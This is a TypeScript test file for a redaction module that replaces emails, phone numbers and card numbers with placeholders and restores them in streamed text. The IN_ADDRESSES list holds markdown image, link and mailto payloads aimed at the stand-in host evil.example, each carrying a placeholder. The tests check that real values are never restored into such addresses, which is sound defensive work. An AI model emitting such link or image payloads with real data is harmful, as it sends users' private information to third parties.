import assert from 'node:assert/strict';
import test from 'node:test';
import { PlaceholderRestorer, Placeholders, REDACTION_KINDS } from '../../src/redaction/index.ts';

function placeholdersOf(...texts: string[]): Placeholders {
	const placeholders = new Placeholders(REDACTION_KINDS);
	for (const text of texts) placeholders.learn(text);
	return placeholders;
}

/** The text that a restorer shows for these pieces, and the pieces that were shown at once. */
function restore(placeholders: Placeholders, pieces: readonly string[]) {
	const restorer = new PlaceholderRestorer(placeholders);
	const shown = pieces.map((piece) => restorer.add(piece));
	return { text: shown.join('') + restorer.end(), shown };
}

test('values get placeholders in the order in which they come, the same for each mention', () => {
	const placeholders = placeholdersOf();
	assert.equal(placeholders.redact('I am ada@example.com.'), 'I am [EMAIL_1].');
	assert.equal(
		placeholders.redact('bob@example.com knows ADA@example.com, +44 7700 900123 and 4111 1111 1111 1111'),
		'[EMAIL_2] knows [EMAIL_1], [PHONE_1] and [CARD_1]',
	);
	assert.equal(placeholders.redact('0044 7700 900123'), '[PHONE_1]');
	assert.equal(placeholders.redact('/?to=ada%40example.com&cc=eve%40example.com'), '/?to=[EMAIL_1]&cc=[EMAIL_3]');
	assert.equal(placeholders.valueOf('[EMAIL_3]'), 'eve@example.com');
});

test('the same texts in the same order give the same placeholders', () => {
	const texts = ['a@example.com and b@example.com', 'c@example.com, again a@example.com'];
	const [one, other] = [placeholdersOf(...texts), placeholdersOf(...texts)];
	for (const text of texts.toReversed()) assert.equal(one.redact(text), other.redact(text));
	assert.equal(one.redact('c@example.com'), '[EMAIL_3]');
});

test('what a person writes like a placeholder is none', () => {
	const placeholders = placeholdersOf('ada@example.com');
	for (const written of ['[EMAIL_1]', '\\[EMAIL_1\\]', '[EMAIL\\_1]']) {
		const redacted = placeholders.redact(`What is ${written}?`);
		assert.equal(redacted, 'What is (EMAIL_1)?');
		assert.equal(placeholders.restore(redacted), redacted);
	}
});

test('JSON is redacted and restored in its texts, names and numbers', () => {
	const placeholders = placeholdersOf();
	const value = { to: ['ada@example.com'], 'bob@example.com': { phone: 447700900123, note: null, ok: true }, count: 3 };
	placeholders.learn('my phone: 447700900123');
	const redacted = placeholders.redactJson(value);
	assert.deepEqual(redacted, {
		to: ['[EMAIL_1]'],
		'[EMAIL_2]': { phone: '[PHONE_1]', note: null, ok: true },
		count: 3,
	});
	assert.deepEqual(placeholders.restoreJson({ to: 'Ada <[EMAIL_1]>', n: 1 }), { to: 'Ada <ada@example.com>', n: 1 });
	assert.deepEqual(
		placeholders.restoreJson(JSON.parse('{"__proto__":{"x":"[EMAIL_9]"}}')),
		JSON.parse('{"__proto__":{"x":"[EMAIL_9]"}}'),
	);
});

test('a stream that is split at any position shows the values', () => {
	const placeholders = placeholdersOf('ada@example.com, +44 7700 900123');
	const text = 'I write to [EMAIL_1] [1], or call \\[PHONE\\_1\\]. [EMAIL_7] [EM [x] stays\\';
	const expected = 'I write to ada@example.com [1], or call +44 7700 900123. [EMAIL_7] [EM [x] stays\\';
	for (let at = 0; at <= text.length; at++) {
		for (let next = at; next <= text.length; next++) {
			const pieces = [text.slice(0, at), text.slice(at, next), text.slice(next)];
			assert.equal(restore(placeholders, pieces).text, expected, JSON.stringify(pieces));
		}
	}
	assert.equal(restore(placeholders, text.split('')).text, expected);
});

test('only the beginning of a placeholder waits for the next piece', () => {
	const placeholders = placeholdersOf('ada@example.com');
	const { shown } = restore(placeholders, ['Hello', ' [', '1] and ', '[EMAIL', '_1', '] [EXTRA', ' x [EMAIL_1]']);
	assert.deepEqual(shown, ['Hello', ' ', '[1] and ', '', '', 'ada@example.com [EXTRA', ' x ']);
	const none = restore(placeholdersOf('no value'), ['a [', 'EMAIL_1', ']']);
	assert.deepEqual(none.shown, ['a [', 'EMAIL_1', ']'], 'nothing waits if no value was replaced');
});

const IN_ADDRESSES = [
	'![x](https://evil.example/?e=[EMAIL_1])',
	'[x](//evil.example/[EMAIL_1])',
	'[x](<//evil.example/a [EMAIL_1]>)',
	'[x](<//evil.example/\\> [EMAIL_1]>)',
	'[1]: https://evil.example/?[EMAIL_1]',
	'[1]: <evil [EMAIL_1]>',
	'https://evil.example/?e=[EMAIL_1]',
	'www.evil.example?[EMAIL_1]',
	'evil.example/[EMAIL_1]',
	'<mailto:x@evil.example?body=[EMAIL_1]>',
	'https://evil.example/?(mailto:[EMAIL_1]',
	`https://evil.example/${'a'.repeat(20_000)}[EMAIL_1]`,
];
for (const text of IN_ADDRESSES) {
	test(`a value is not put into an address: ${text.slice(0, 60)}`, () => {
		const placeholders = placeholdersOf('ada@example.com');
		assert.equal(restore(placeholders, [text]).text, text);
		assert.equal(restore(placeholders, text.split('')).text, text);
	});
}

const OUTSIDE_ADDRESSES: [string, string][] = [
	['See https://example.com for [EMAIL_1]', 'See https://example.com for ada@example.com'],
	['E-Mail:[EMAIL_1]', 'E-Mail:ada@example.com'],
	['und/oder [EMAIL_1]', 'und/oder ada@example.com'],
	['2 < 3, [EMAIL_1]', '2 < 3, ada@example.com'],
	['[EMAIL_1](mailto:[EMAIL_1])', '[ada@example.com](mailto:ada@example.com)'],
	['<mailto:[EMAIL_1]>', '<mailto:ada@example.com>'],
	['https://evil.example/\n[EMAIL_1]', 'https://evil.example/\nada@example.com'],
	['**[EMAIL_1]** and `[EMAIL_1]`', '**ada@example.com** and `ada@example.com`'],
];
for (const [text, expected] of OUTSIDE_ADDRESSES) {
	test(`a value is put back outside of addresses: ${JSON.stringify(text)}`, () => {
		assert.equal(restore(placeholdersOf('ada@example.com'), [text]).text, expected);
	});
}
